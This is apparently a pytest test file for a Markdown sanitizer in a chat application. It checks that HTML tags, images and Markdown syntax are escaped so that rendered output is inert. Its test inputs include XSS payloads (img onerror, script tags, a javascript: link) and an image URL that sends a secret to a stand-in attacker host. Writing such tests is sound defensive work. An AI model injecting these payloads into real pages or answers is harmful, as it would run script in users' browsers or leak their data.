"""Markdown a person reads, made inert: what each writer keeps and what it disarms."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from chat.conversations import markdown_doc

# A permissive renderer: raw HTML on, as a naive Markdown viewer would have it.
RENDER = MarkdownIt("commonmark", {"html": True}).enable(["table"]).render


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("Salt & pepper - v1.2.", "Salt & pepper - v1.2.\n"),
        ("**bold** and _it_\n\n- one\n- two", "**bold** and _it_\n\n- one\n- two\n"),
        ("<b>hi</b>", "\\<b>hi\\</b>\n"),
        ("\\<b>already escaped", "\\<b>already escaped\n"),
        ("\\\\<b>escaped backslash", "\\\\\\<b>escaped backslash\n"),
        ("![cat](https://x.example/c.png)", "\\![cat](https://x.example/c.png)\n"),
        ("a <!-- comment -->", "a \\<!-- comment -->\n"),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2\n"),
        ("use `<b>` here", "use `<b>` here\n"),
        ("``a ` <b>`` then <i>", "``a ` <b>`` then \\<i>\n"),
        ("an `unmatched <b>", "an `unmatched \\<b>\n"),
        ("```html\n<b>kept</b>\n```\n<b>", "```html\n<b>kept</b>\n```\n\\<b>\n"),
        ("~~~\n<b>\n~~~", "~~~\n<b>\n~~~\n"),
        ("```\nnever closed <b>", "```\nnever closed <b>\n```\n"),
        ("````\n```\nstill code <b>\n````\n<i>", "````\n```\nstill code <b>\n````\n\\<i>\n"),
        ("line\r\nnext", "line\nnext\n"),
    ],
    ids=[
        "ampersand-and-hyphen-as-written",
        "markdown-kept",
        "html-tag",
        "escaped-tag-stays-escaped",
        "escaped-backslash-then-tag",
        "image",
        "html-comment",
        "comparisons",
        "code-span",
        "longer-code-span",
        "unmatched-backtick",
        "fenced-code",
        "tilde-fence",
        "unclosed-fence",
        "longer-fence",
        "crlf",
    ],
)
def test_inert_keeps_markdown_and_disarms_html_and_images(text, written):
    assert markdown_doc.inert(text) == written


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>",
        "\\\\<img src=x onerror=alert(1)>",
        "![x](https://attacker.example/p.png?q=secret)",
        '<div hx-get="/" hx-trigger="load">\n\n*hi*\n\n</div>',
        "<javascript:alert(1)>",
        "<script>alert(1)</script>",
        "```\n<img src=x>",
    ],
)
def test_an_inert_text_renders_no_tag_of_its_own(text):
    html = RENDER(markdown_doc.inert(text))
    for tag in ("<img", "<div", "<script", 'href="javascript'):
        assert tag not in html


def test_an_inert_answer_renders_as_the_markdown_it_is():
    html = RENDER(markdown_doc.inert("# Plan\n\n1. **Mix** the flour & water\n2. Bake"))
    assert "<h1>Plan</h1>" in html
    assert "<li><strong>Mix</strong> the flour &amp; water</li>" in html


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("R&D - v1.2", "R&D - v1.2"),
        ("<b>[x](y)</b>", "\\<b\\>\\[x\\](y)\\</b\\>"),
        ("a | b", "a \\| b"),
        ("*not* _emphasis_", "\\*not\\* \\_emphasis\\_"),
        ("&amp; stays literal", "\\&amp; stays literal"),
        ("two\nlines", "two lines"),
    ],
)
def test_inline_writes_a_value_as_the_literal_text(value, written):
    assert markdown_doc.inline(value) == written
    assert RENDER(written).strip() == f"<p>{_html_text(' '.join(value.split()))}</p>"


def _html_text(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("0.4", "`0.4`"),
        ('["a`b"]', '``["a`b"]``'),
        ("`edge`", "`` `edge` ``"),
        ("x | y", "`x \\| y`"),
    ],
)
def test_code_span_shows_a_value_verbatim(value, written):
    assert markdown_doc.code_span(value) == written


def test_quoted_marks_every_line_and_keeps_code_inside_the_quote():
    assert markdown_doc.quoted("One.\n\n```\n<b>\n") == "> One.\n>\n> ```\n> <b>\n> ```\n"
